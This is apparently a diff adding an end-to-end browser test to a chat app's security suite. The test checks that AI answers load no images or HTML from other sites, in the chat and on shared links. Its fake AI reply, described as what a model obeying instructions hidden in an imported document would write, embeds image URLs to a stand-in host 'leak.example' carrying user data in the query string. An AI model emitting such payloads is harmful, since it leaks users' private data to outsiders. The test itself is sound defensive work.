@@ -1,15 +1,19 @@
 import http from "node:http";
 import type { AddressInfo } from "node:net";
-import type { Page } from "playwright-core";
+import type { Locator, Page } from "playwright-core";
 import { afterAll, describe, expect, it } from "vitest";
+import { startFakeAiServer } from "../server/test/fake-ai-server";
 import { linkIn, startTestSmtpServer } from "../server/test/test-smtp-server";
 import { totpCode } from "../server/test/totp";
+import type { ConversationShare, ConversationSummary } from "../shared/chat";
 import { DESKTOP, PHONE, screenshot, setupBrowser } from "./support/browser";
+import { askInPage, chatOwnerPage, conversationList, openChat } from "./support/chat-owner";
 import { expectToast } from "./support/toasts";
 
 const smtp = await startTestSmtpServer();
+const fake = await startFakeAiServer();
 const browser = setupBrowser({ env: { SMTP_URL: smtp.url } });
-afterAll(() => smtp.close());
+afterAll(() => Promise.all([smtp.close(), fake.close()]));
 
 const PASSWORD = "correct-horse-battery";
 let owners = 0;
@@ -31,6 +35,46 @@ async function logIn(page: Page, email: string, password: string) {
   await page.getByLabel("Email").fill(email);
   await page.getByLabel("Password", { exact: true }).fill(password);
   await page.getByRole("button", { name: "Login", exact: true }).click();
+}
+
+/** Another site on this machine, on a port of its own: it counts every request that reaches it. */
+async function startElsewhere() {
+  const requests: string[] = [];
+  const server = http.createServer((request, response) => {
+    requests.push(request.url ?? "");
+    response.setHeader("content-type", "image/gif");
+    response.end(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"));
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    requests,
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  };
+}
+
+/**
+ * An https:// site (what an attacker would use, and what the policy allowed images from) that the page's browser
+ * reaches on the counting server, through Playwright's routing rather than the internet.
+ */
+const HTTPS_ELSEWHERE = "https://leak.example";
+async function routeHttpsElsewhere(page: Page, elsewhere: { url: string }) {
+  await page.context().route(`${HTTPS_ELSEWHERE}/**`, async (route) => {
+    const url = route.request().url().replace(HTTPS_ELSEWHERE, elsewhere.url);
+    await route.fulfill({ response: await route.fetch({ url }) });
+  });
+}
+
+/** An answer that asked for images shows their addresses, loads none, and says where its link leads. */
+async function expectNothingLoaded(answer: Locator, addresses: { images: string[]; link: string; host: string }) {
+  for (const address of addresses.images) await answer.getByRole("link", { name: address, exact: true }).waitFor();
+  expect(await answer.locator("img").count()).toBe(0);
+  const link = answer.getByRole("link", { name: "the pricing guide" });
+  expect(await link.getAttribute("href")).toBe(addresses.link);
+  expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
+  await answer.getByText(`(${addresses.host})`, { exact: true }).waitFor();
+  // Raw HTML stays text.
+  await answer.getByText('<img src="', { exact: false }).waitFor();
 }
 
 describe("account recovery and security in the browser", () => {
@@ -191,6 +235,49 @@ describe("account recovery and security in the browser", () => {
       expect((await page.request.get(`${target}/api/account`)).status()).toBe(200);
     } finally {
       await new Promise<void>((resolve) => evil.close(() => resolve()));
+    }
+  });
+
+  it("never lets an answer load anything from another site, in the chat or on its shared link", async () => {
+    await browser.restart({
+      env: { AI_BASE_URL: fake.url, AI_API_KEY: "sk-e2e-security", CHAT_MODEL: "e2e-chat", EMBEDDING_MODEL: "none" },
+    });
+    const elsewhere = await startElsewhere();
+    try {
+      // What a model following instructions hidden in an imported document would write.
+      const images = [`${HTTPS_ELSEWHERE}/pixel.gif?data=margin-42`, `${elsewhere.url}/chart.gif?data=margin-42`];
+      const addresses = { images, link: `${elsewhere.url}/guide`, host: new URL(elsewhere.url).host };
+      fake.queueChat({
+        reply: `Your margins are healthy.\n\n![margin chart](${images[0]})\n\n![](${images[1]})\n\nSee [the pricing guide](${addresses.link}) or <img src="${images[1]}&raw=1">.\n\n[![logo](${images[0]}&logo=1)](${HTTPS_ELSEWHERE}/home)`,
+      });
+      const page = await chatOwnerPage(browser, DESKTOP);
+      await routeHttpsElsewhere(page, elsewhere);
+      await openChat(page, "/chat?director=martha");
+      await askInPage(page, "Are my margins healthy?");
+      await conversationList(page).getByText("Your margins are healthy.").waitFor();
+      await expectNothingLoaded(conversationList(page), addresses);
+      await screenshot(page, "answer-image-as-address-1280");
+
+      // The same answer on its shared link, signed out.
+      const [conversation] = (
+        (await (await page.request.get("/api/conversations")).json()) as {
+          conversations: ConversationSummary[];
+        }
+      ).conversations;
+      const share = await page.request.post(`/api/conversations/${conversation?.id}/share`, {
+        data: {},
+        headers: { origin: browser.url },
+      });
+      const { token } = (await share.json()) as ConversationShare;
+      const visitor = await browser.newPage(PHONE);
+      await routeHttpsElsewhere(visitor, elsewhere);
+      await visitor.goto(`/shared/${token}`);
+      await visitor.getByText("Your margins are healthy.").waitFor();
+      await expectNothingLoaded(visitor.locator("main"), addresses);
+
+      expect(elsewhere.requests).toEqual([]);
+    } finally {
+      await elsewhere.close();
     }
   });
 
